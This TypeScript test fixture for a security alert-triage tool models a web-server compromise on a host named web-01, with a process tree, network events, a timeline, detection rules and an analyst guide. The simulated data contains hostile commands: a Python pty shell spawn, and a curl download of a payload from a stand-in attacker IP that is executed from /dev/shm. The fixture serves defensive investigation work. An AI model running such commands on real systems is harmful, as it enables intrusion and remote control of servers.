// What an investigation says of the python shell on web-01.
import type { Investigation, ProcessSummary, TreeRow } from "../../../src/triage/investigation.ts";
import { ATTACK_ID, ATTACK_MS, RULES } from "./page-rows.ts";

interface ProcessPart extends Partial<ProcessSummary> {
  readonly entityId: string;
  readonly name: string;
}

function processOf(part: ProcessPart): ProcessSummary {
  return {
    args: part.commandLine?.split(" ") ?? [part.name],
    commandLine: part.name,
    executable: `/usr/bin/${part.name}`,
    userName: "www-data",
    userId: "33",
    hostName: "web-01",
    hostId: "4c4c",
    workingDirectory: "/var/www/html/uploads",
    startMs: ATTACK_MS,
    alerts: [],
    ...part,
  };
}

const MARK = { id: ATTACK_ID, ruleName: RULES[0][0], severity: "high" };
const PYTHON = `python3 -c import pty; pty.spawn("/bin/bash")`;

const TREE: readonly TreeRow[] = (
  [
    [
      -1,
      "ancestor",
      {
        entityId: "1",
        name: "systemd",
        pid: 1,
        userName: "root",
        userId: "0",
        commandLine: "/sbin/init",
        startMs: ATTACK_MS - 8.64e8,
      },
    ],
    [
      0,
      "ancestor",
      {
        entityId: "2",
        name: "apache2",
        pid: 1032,
        userName: "root",
        userId: "0",
        commandLine: "/usr/sbin/apache2 -k start",
        startMs: ATTACK_MS - 8.6e8,
      },
    ],
    [
      1,
      "ancestor",
      {
        entityId: "3",
        name: "apache2",
        pid: 47_110,
        commandLine: "/usr/sbin/apache2 -k start",
        startMs: ATTACK_MS - 3.4e6,
      },
    ],
    [
      2,
      "ancestor",
      {
        entityId: "4",
        name: "sh",
        pid: 48_199,
        commandLine: "sh -c php /var/www/html/uploads/x.phtml",
        startMs: ATTACK_MS - 90_000,
        args: ["sh", "-c", "php /var/www/html/uploads/x.phtml"],
      },
    ],
    [
      3,
      "ancestor",
      {
        entityId: "5",
        name: "python3",
        pid: 48_212,
        commandLine: PYTHON,
        args: ["python3", "-c", `import pty; pty.spawn("/bin/bash")`],
        startMs: ATTACK_MS - 200,
        isInteractive: false,
      },
    ],
    [
      4,
      "subject",
      {
        entityId: "6",
        name: "bash",
        pid: 48_213,
        commandLine: "bash",
        isInteractive: true,
        alerts: [MARK],
      },
    ],
    [
      5,
      "descendant",
      {
        entityId: "7",
        name: "id",
        pid: 48_214,
        commandLine: "id",
        startMs: ATTACK_MS + 4000,
        endMs: ATTACK_MS + 4003,
        exitCode: 0,
      },
    ],
    [
      5,
      "descendant",
      {
        entityId: "8",
        name: "uname",
        pid: 48_215,
        commandLine: "uname -a",
        startMs: ATTACK_MS + 6100,
        endMs: ATTACK_MS + 6102,
        exitCode: 0,
      },
    ],
    [
      5,
      "descendant",
      {
        entityId: "9",
        name: "curl",
        pid: 48_220,
        commandLine: "curl -sko /dev/shm/.x http://203.0.113.77:8000/x",
        startMs: ATTACK_MS + 31_000,
        endMs: ATTACK_MS + 32_400,
        exitCode: 0,
        alerts: [{ id: "a2", ruleName: "Download to shared memory", severity: "medium" }],
      },
    ],
    [
      5,
      "descendant",
      {
        entityId: "10",
        name: ".x",
        pid: 48_226,
        executable: "/dev/shm/.x",
        commandLine: "/dev/shm/.x -d",
        startMs: ATTACK_MS + 40_000,
        alerts: [
          {
            id: "a3",
            ruleName: "Binary Executed from Shared Memory Directory",
            severity: "critical",
          },
        ],
      },
    ],
    [
      9,
      "descendant",
      {
        entityId: "11",
        name: "sh",
        pid: 48_230,
        commandLine: "sh -c crontab -",
        startMs: ATTACK_MS + 44_000,
        endMs: ATTACK_MS + 44_080,
        exitCode: 1,
      },
    ],
    [
      3,
      "sibling",
      {
        entityId: "12",
        name: "ls",
        pid: 48_205,
        commandLine: "ls -la",
        startMs: ATTACK_MS - 60_000,
        endMs: ATTACK_MS - 59_990,
        exitCode: 0,
      },
    ],
  ] as const
).map(([parentIndex, role, part]) => ({
  process: processOf(part as ProcessPart),
  role,
  depth: 0,
  parentIndex,
  cutCount: part.entityId === "3" ? 11 : 0,
}));

function withDepth(rows: readonly TreeRow[]): readonly TreeRow[] {
  const depths: number[] = [];
  return rows.map((row, index) => {
    const depth = row.parentIndex < 0 ? 0 : (depths[row.parentIndex] ?? 0) + 1;
    depths[index] = depth;
    return { ...row, depth };
  });
}

const subject = TREE[5]?.process as ProcessSummary;
const mention = (name: string, pid: number) => ({ name, pid });

export const INVESTIGATION: Investigation = {
  alertId: ATTACK_ID,
  summary:
    "www-data, through apache2, started an interactive bash with python3 on web-01 at 02:13:07; 2 processes of it are still running.",
  isOngoing: true,
  subject,
  tree: { rows: withDepth(TREE), subjectIndex: 5, isCut: true },
  commandLine: { text: "bash", marks: [] },
  parentCommandLine: {
    text: PYTHON,
    marks: [
      { start: 8, end: 10, reason: "-c runs code from the command line" },
      { start: 23, end: 45, reason: "pty.spawn makes a plain shell a terminal" },
    ],
  },
  usualTimes: {
    userName: "www-data",
    startMs: ATTACK_MS,
    countByHour: [
      0, 0, 0, 0, 1, 2, 40, 120, 210, 260, 240, 220, 180, 210, 230, 220, 190, 120, 60, 22, 8, 3, 1,
      0,
    ],
    dayCount: 14,
    hosts: [{ value: "web-01", count: 2137 }],
    isUnusualHour: true,
    isUnusualHost: false,
  },
  network: {
    before: [
      {
        timeMs: ATTACK_MS - 89_000,
        action: "connection accepted",
        direction: "ingress",
        protocol: "tcp",
        source: "198.51.100.24:51822",
        destination: "10.0.3.11:443",
        process: mention("apache2", 47_110),
      },
    ],
    after: [
      {
        timeMs: ATTACK_MS + 31_100,
        action: "connection attempted",
        direction: "egress",
        protocol: "tcp",
        source: "10.0.3.11:40122",
        destination: "203.0.113.77:8000",
        domain: "cdn.example.net",
        process: mention("curl", 48_220),
      },
      {
        timeMs: ATTACK_MS + 40_500,
        action: "connection attempted",
        direction: "egress",
        protocol: "tcp",
        source: "10.0.3.11:40140",
        destination: "203.0.113.77:4444",
        process: mention(".x", 48_226),
      },
    ],
  },
  userActivity: {
    userName: "www-data",
    fromMs: ATTACK_MS - 3_600_000,
    toMs: ATTACK_MS + 400_000,
    programs: [
      { value: "/dev/shm/.x", count: 1 },
      { value: "/usr/bin/python3", count: 1 },
      { value: "/usr/bin/curl", count: 2 },
      { value: "/usr/sbin/apache2", count: 41 },
    ],
    logins: [
      {
        timeMs: ATTACK_MS - 900_000,
        outcome: "failure",
        source: "198.51.100.24",
        hostName: "web-01",
      },
    ],
    hosts: [{ value: "web-01", count: 45 }],
  },
  related: [
    {
      id: "a3",
      ruleName: "Binary Executed from Shared Memory Directory",
      severity: "critical",
      timeMs: ATTACK_MS + 40_000,
      status: "open",
      reason: "process event with process .x",
      relation: "tree",
    },
    {
      id: "a2",
      ruleName: "Download to shared memory",
      severity: "medium",
      timeMs: ATTACK_MS + 31_000,
      status: "open",
      reason: "process event with process curl",
      relation: "tree",
    },
    {
      id: "a4",
      ruleName: "Web Server Spawned a Shell",
      severity: "medium",
      timeMs: ATTACK_MS - 90_000,
      status: "acknowledged",
      reason: "process event with process sh",
      relation: "user",
    },
  ],
  files: [
    {
      timeMs: ATTACK_MS - 95_000,
      action: "creation",
      path: "/var/www/html/uploads/x.phtml",
      process: mention("apache2", 47_110),
    },
    {
      timeMs: ATTACK_MS + 31_900,
      action: "creation",
      path: "/dev/shm/.x",
      process: mention("curl", 48_220),
    },
    {
      timeMs: ATTACK_MS + 44_050,
      action: "creation",
      path: "/var/spool/cron/crontabs/tmp.8yQ2",
      process: mention("sh", 48_230),
    },
  ],
  timeline: [
    {
      timeMs: ATTACK_MS - 95_000,
      kind: "file",
      text: "apache2 created /var/www/html/uploads/x.phtml",
      process: mention("apache2", 47_110),
    },
    {
      timeMs: ATTACK_MS - 90_000,
      kind: "process-start",
      text: "sh -c php /var/www/html/uploads/x.phtml",
      process: mention("sh", 48_199),
    },
    {
      timeMs: ATTACK_MS - 89_000,
      kind: "network",
      text: "apache2 accepted 198.51.100.24:51822",
      process: mention("apache2", 47_110),
    },
    {
      timeMs: ATTACK_MS - 200,
      kind: "process-start",
      text: PYTHON,
      process: mention("python3", 48_212),
    },
    { timeMs: ATTACK_MS, kind: "process-start", text: "bash", process: mention("bash", 48_213) },
    {
      timeMs: ATTACK_MS,
      kind: "alert",
      text: "this alert: Interactive Terminal Spawned via Python",
      alertId: ATTACK_ID,
    },
    { timeMs: ATTACK_MS + 4000, kind: "process-start", text: "id", process: mention("id", 48_214) },
    {
      timeMs: ATTACK_MS + 31_000,
      kind: "process-start",
      text: "curl -sko /dev/shm/.x http://203.0.113.77:8000/x",
      process: mention("curl", 48_220),
    },
    {
      timeMs: ATTACK_MS + 31_100,
      kind: "network",
      text: "curl connected to 203.0.113.77:8000 (cdn.example.net)",
      process: mention("curl", 48_220),
    },
    {
      timeMs: ATTACK_MS + 40_000,
      kind: "alert",
      text: "Binary Executed from Shared Memory Directory",
      alertId: "a3",
    },
    {
      timeMs: ATTACK_MS + 40_500,
      kind: "network",
      text: ".x connected to 203.0.113.77:4444",
      process: mention(".x", 48_226),
    },
    { timeMs: ATTACK_MS + 60_000, kind: "change", text: "jo added a note" },
  ],
  rarity: [
    {
      what: "parent-child",
      value: "python3 → bash",
      onHostCount: 0,
      everywhereCount: 3,
      hostCount: 1,
      firstMs: ATTACK_MS - 8e8,
      lastMs: ATTACK_MS - 2e8,
      dayCount: 14,
    },
    {
      what: "command-line",
      value: "bash",
      onHostCount: 0,
      everywhereCount: 0,
      hostCount: 0,
      dayCount: 14,
    },
    {
      what: "executable",
      value: "/usr/bin/bash",
      onHostCount: 812,
      everywhereCount: 4210,
      hostCount: 6,
      firstMs: ATTACK_MS - 1.2e9,
      lastMs: ATTACK_MS - 60_000,
      dayCount: 14,
    },
  ],
  guide: {
    steps: [
      {
        text: 'Review the process tree to understand the parent-child relationship, focusing on the parent process named "python*" and the child process that is a shell.',
        answers: ["tree"],
      },
      {
        text: 'Examine the command-line arguments of the parent Python process to identify the use of "pty.spawn" and the presence of the "-c" flag.',
        answers: ["parentCommandLine"],
      },
      {
        text: "Check the process start event details, including the timestamp and user context.",
        answers: ["usualTimes", "userActivity"],
      },
      {
        text: "Investigate the source IP address and user account associated with the process.",
        answers: ["network", "userActivity"],
      },
      {
        text: "Look for any related alerts or logs that might indicate prior suspicious activity.",
        answers: ["related", "timeline"],
      },
      {
        text: "Correlate this activity with any recent changes or incidents reported on the host.",
        answers: [],
      },
    ],
    queries: [
      {
        kind: "investigate",
        label: "Alerts associated with the user",
        description: "What else www-data did",
        eql: `any where user.name == "www-data"`,
        fromMs: ATTACK_MS - 8.64e7,
        toMs: ATTACK_MS + 8.64e7,
      },
      { kind: "osquery", label: "Osquery - Retrieve crontab", query: "SELECT * FROM crontab" },
    ],
  },
  notes: ["11 more children of apache2 (pid 47110) are not shown."],
};
